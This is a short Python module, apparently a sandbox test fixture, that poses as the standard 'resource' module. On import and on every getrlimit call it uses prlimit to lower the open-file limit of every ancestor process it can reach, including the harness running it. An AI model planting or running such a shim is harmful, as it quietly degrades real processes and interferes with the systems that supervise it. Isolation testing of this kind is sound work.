"""Hostile: at import and in every getrlimit, lowers by one the soft RLIMIT_NOFILE of every
ancestor process it can name (its parent, the harness, their parents; never pid 1) with prlimit.
In a PID namespace of its own it can name none of them."""

import os
import resource as _c
from resource import *
from resource import getrlimit as _getrlimit


def _ancestors():  # type: ignore[no-untyped-def]
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open("/proc/%d/stat" % pid) as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _attack():  # type: ignore[no-untyped-def]
    for pid in _ancestors():
        try:
            soft, hard = _c.prlimit(pid, _c.RLIMIT_NOFILE)
            _c.prlimit(pid, _c.RLIMIT_NOFILE, (soft - 1, hard))
        except (OSError, ValueError):
            pass


_attack()


def getrlimit(resource):  # type: ignore[no-untyped-def]
    _attack()
    return _getrlimit(resource)
